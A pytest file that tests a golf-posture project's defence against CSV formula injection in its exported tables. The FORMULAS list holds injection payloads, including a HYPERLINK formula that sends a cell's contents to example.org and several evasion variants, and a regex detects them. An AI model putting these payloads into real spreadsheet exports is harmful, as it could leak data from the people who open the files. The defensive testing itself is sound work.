"""What a spreadsheet opens runs nothing; numbers stay numbers (OWASP, "CSV Injection"; from memory)."""

import csv
import io
import re

import pandas as pd
import pytest
from attrs import evolve
from hypothesis import given
from hypothesis import strategies as st
from invented import make_lesson

from putt_posture.documents import lesson_as_csv
from putt_posture.documents.tables import disarm, frame_as_csv
from putt_posture.values import absent

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1",
    '"=1', "'=1", '" =1', "＝1", "＋1", "－1", "＠1", "a;=1", "a\n=1", "a\t@x", 'a; "=1', "|=1",
    "\x00=1", "\ufeff=1", "-", "=",
)  # fmt: skip
BEGINS = re.compile(r"(\A|[;|\t\r\n])[\s\"\x00-\x1f\ufeff]*[=+\-@＝＋－＠]")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(text):
    safe = disarm(text)
    assert not BEGINS.search(safe)
    assert not safe.startswith(("\t", "\r", "\n"))
    assert safe.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["Robin", "a - b", "a, -5", "1 = one", "robin@example.org", "", "3-4 ft; then 5", "O'Mára"]
)
def test_other_text_stays(text):
    assert disarm(text) == text


@pytest.mark.parametrize("number", [-3.5, -1, 0, 2.0, None, True])
def test_numbers_stay_numbers(number):
    assert disarm(number) is number


@given(st.text())
def test_whatever_somebody_types_is_no_formula(text):
    safe = disarm(text)
    assert not BEGINS.search(safe)
    assert safe.replace("'", "") == text.replace("'", "")


def test_a_table_keeps_numbers_days_and_gaps_and_its_text_as_typed_where_asked():
    frame = pd.DataFrame(
        {
            "note": ["=1", None, "-x"],
            "change": [-1.5, float("nan"), -2.0],
            "day": pd.to_datetime(["2026-05-17", None, "2026-05-18"]),
            "count": pd.array([-1, None, 2], dtype="Int64"),
            "told": ["@a", "b", "c"],
        }
    ).astype({"told": "string"})
    assert frame_as_csv(frame) == (
        "note,change,day,count,told\n'=1,-1.5,2026-05-17,-1,'@a\n,,,,b\n'-x,-2.0,2026-05-18,2,c\n"
    )
    assert frame_as_csv(frame, raw_text=True) == (
        "note,change,day,count,told\n=1,-1.5,2026-05-17,-1,@a\n,,,,b\n-x,-2.0,2026-05-18,2,c\n"
    )


def test_the_measures_of_a_result_folder_hold_no_formula():
    lesson = make_lesson()
    estimates = {**lesson.posture.estimates, "spine_tilt": absent('=HYPERLINK("x")', unit="deg")}
    lesson = evolve(lesson, posture=evolve(lesson.posture, estimates=estimates))
    rows = {row["measure"]: row for row in csv.DictReader(io.StringIO(lesson_as_csv(lesson)))}
    assert rows["spine_tilt"]["absent"] == '\'=HYPERLINK("x")'
    assert any(float(row["value"]) < 0 for row in rows.values() if row["value"])
